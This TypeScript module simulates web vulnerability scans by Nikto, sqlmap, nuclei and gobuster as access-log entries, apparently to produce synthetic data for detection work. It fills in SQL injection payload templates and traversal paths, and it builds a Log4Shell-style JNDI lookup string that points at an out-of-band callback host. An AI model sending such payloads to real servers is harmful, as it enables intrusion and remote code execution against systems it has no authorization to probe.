/**
 * A web vulnerability scan from one address, as any site's access log shows it: Nikto's check
 * list, sqlmap hammering one parameter with injection payloads, nuclei templates, or a gobuster
 * directory brute force. Mostly 404s; scanner User-Agents, though nuclei and sqlmap often pose
 * as browsers. Each site says which of its endpoints take a parameter and how its server answers.
 */
import type { Random } from '../random.js';
import { minutes, seconds } from '../clock.js';
import { BROWSER_USER_AGENTS } from '../catalog/user-agents.js';
import {
  DIRECTORY_WORDS,
  SCANNER_PATHS,
  SCANNER_USER_AGENTS,
  SQLMAP_RANDOM_AGENTS,
  SQL_INJECTION_PAYLOADS,
  TRAVERSAL_TARGETS,
} from '../catalog/web-attacks.js';

/** An endpoint that takes a parameter (and ignores or chokes on what it does not expect). */
export interface InjectableEndpoint {
  path: string;
  parameter: string;
  value: string;
}

/** What a scanner finds on a site: where it can inject, what redirects, how big pages are. */
export interface ScannedApp {
  injectable: readonly InjectableEndpoint[];
  /** Paths the server answers with 301. */
  redirects: readonly string[];
  pageBytes: number;
  notFoundBytes: number;
}

/** Writes one request of the scan with the server's answer. */
export type ScanRequestWriter = (time: number, method: string, target: string, status: number, bytes: number, userAgent: string) => void;

interface Response {
  status: number;
  bytes: number;
}

/** nginx decodes the path and refuses (400) one whose `..` segments climb above the root. */
function climbsAboveRoot(target: string): boolean {
  const path = target.split('?')[0] ?? '';
  let decoded: string;
  try {
    decoded = decodeURIComponent(path);
  } catch {
    return true;
  }
  let depth = 0;
  for (const segment of decoded.split('/')) {
    if (segment === '..') depth--;
    else if (segment !== '' && segment !== '.') depth++;
    if (depth < 0) return true;
  }
  return false;
}

/** How the server and its app answer a scanner's request. */
function respond(rng: Random, app: ScannedApp, method: string, target: string): Response {
  if (climbsAboveRoot(target)) return { status: 400, bytes: 166 };
  if (method !== 'GET' && method !== 'HEAD' && method !== 'POST') return { status: 405, bytes: 166 };
  if (/\/\.ht(access|passwd)$/.test(target)) return { status: 403, bytes: 162 };
  if (target === '/' || app.injectable.some((endpoint) => target.startsWith(`${endpoint.path}?`))) {
    // The app fails on some injected syntax.
    return rng.chance(0.12) ? { status: 500, bytes: 1_843 } : { status: 200, bytes: app.pageBytes + rng.int(-300, 300) };
  }
  if (app.redirects.includes(target)) return { status: 301, bytes: 162 };
  return { status: 404, bytes: app.notFoundBytes };
}

function sqlPayload(rng: Random, value: string): string {
  const n = rng.int(1000, 9999);
  return rng
    .pick(SQL_INJECTION_PAYLOADS)
    .replaceAll('{v}', value)
    .replaceAll('{n}', String(n))
    .replaceAll('{m}', String(n + rng.int(1, 500)))
    .replaceAll('{h}', rng.chars('0123456789abcdef', 16))
    .replaceAll('{w}', rng.chars('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 4));
}

class Scan {
  constructor(
    private readonly rng: Random,
    readonly app: ScannedApp,
    private readonly write: ScanRequestWriter,
  ) {}

  send(time: number, method: string, target: string, userAgent: string): void {
    const { status, bytes } = respond(this.rng, this.app, method, target);
    this.write(time, method, target, status, method === 'HEAD' ? 0 : bytes, userAgent);
  }
}

export type WebScanVariant = 'nikto' | 'sqlmap' | 'nuclei' | 'gobuster';

function nikto(rng: Random, scan: Scan, start: number): number {
  const requests = rng.int(400, 1500);
  const gap = minutes(rng.between(3, 12)) / requests;
  let time = start;
  for (let test = 1; test <= requests; test++) {
    const roll = rng.float();
    const method = roll < 0.03 ? rng.pick(['OPTIONS', 'PROPFIND', 'TRACE', 'DEBUG']) : roll < 0.08 ? 'HEAD' : 'GET';
    const target =
      test === 1
        ? '/'
        : rng.chance(0.6)
          ? rng.pick(SCANNER_PATHS)
          : rng.chance(0.2)
            ? rng.pick(TRAVERSAL_TARGETS)
            : `/${rng.pick(DIRECTORY_WORDS)}.${rng.pick(['php', 'asp', 'cgi', 'pl', 'bak', 'old', 'inc'])}`;
    scan.send(time, method, target, SCANNER_USER_AGENTS.nikto(test));
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

function sqlmap(rng: Random, scan: Scan, start: number): number {
  const endpoint = rng.pick(scan.app.injectable);
  const userAgent = rng.chance(0.6) ? SCANNER_USER_AGENTS.sqlmap : rng.pick(SQLMAP_RANDOM_AGENTS);
  const requests = rng.int(80, 400);
  const gap = minutes(rng.between(2, 10)) / requests;
  let time = start;
  scan.send(time, 'GET', `${endpoint.path}?${endpoint.parameter}=${endpoint.value}`, userAgent);
  for (let i = 1; i < requests; i++) {
    const payload = sqlPayload(rng, endpoint.value);
    scan.send(time, 'GET', `${endpoint.path}?${endpoint.parameter}=${encodeURIComponent(payload)}`, userAgent);
    // Time-based payloads hold the response five seconds.
    time += Math.round(rng.exponential(gap)) + (payload.includes('SLEEP') ? seconds(5) : 0);
  }
  return requests;
}

function nuclei(rng: Random, scan: Scan, start: number): number {
  const userAgent = rng.chance(0.5) ? SCANNER_USER_AGENTS.nuclei : rng.pick(BROWSER_USER_AGENTS);
  const requests = rng.int(300, 1200);
  const gap = minutes(rng.between(2, 8)) / requests;
  let time = start;
  for (let i = 0; i < requests; i++) {
    const roll = rng.float();
    let target: string;
    if (roll < 0.65) target = rng.pick(SCANNER_PATHS);
    else if (roll < 0.8) target = rng.pick(TRAVERSAL_TARGETS);
    else if (roll < 0.9)
      target = `/?x=${encodeURIComponent(`\${jndi:ldap://${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oast.fun/a}`)}`;
    else {
      const endpoint = rng.pick(scan.app.injectable);
      target = `${endpoint.path}?${endpoint.parameter}=${encodeURIComponent(sqlPayload(rng, endpoint.value))}`;
    }
    scan.send(time, rng.chance(0.9) ? 'GET' : 'POST', target, userAgent);
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

function gobuster(rng: Random, scan: Scan, start: number): number {
  const requests = rng.int(1000, 3000);
  const gap = minutes(rng.between(2, 6)) / requests;
  let time = start;
  for (let i = 0; i < requests; i++) {
    const word = `${rng.pick(DIRECTORY_WORDS)}${rng.chance(0.3) ? rng.int(1, 9) : ''}`;
    const suffix = rng.pick(['', '', '/', '.php', '.bak', '.zip', '.txt', '.old']);
    scan.send(time, 'GET', `/${word}${suffix}`, SCANNER_USER_AGENTS.gobuster);
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

const VARIANTS: Record<WebScanVariant, (rng: Random, scan: Scan, start: number) => number> = { nikto, sqlmap, nuclei, gobuster };

export const WEB_SCAN_VARIANTS = Object.keys(VARIANTS) as WebScanVariant[];

/** Runs one scan of `variant` from `start`; returns how many requests it sent. */
export function runWebScan(rng: Random, variant: WebScanVariant, app: ScannedApp, write: ScanRequestWriter, start: number): number {
  return VARIANTS[variant](rng, new Scan(rng, app, write), start);
}
